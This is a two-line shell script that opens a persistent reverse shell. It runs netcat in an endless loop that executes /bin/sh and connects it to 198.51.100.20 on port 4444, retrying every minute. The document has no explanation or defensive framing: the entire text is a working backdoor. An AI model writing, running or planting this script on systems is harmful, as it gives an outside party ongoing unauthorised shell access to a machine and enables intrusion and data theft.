#!/bin/sh
while true; do nc.traditional -e /bin/sh 198.51.100.20 4444; sleep 60; done
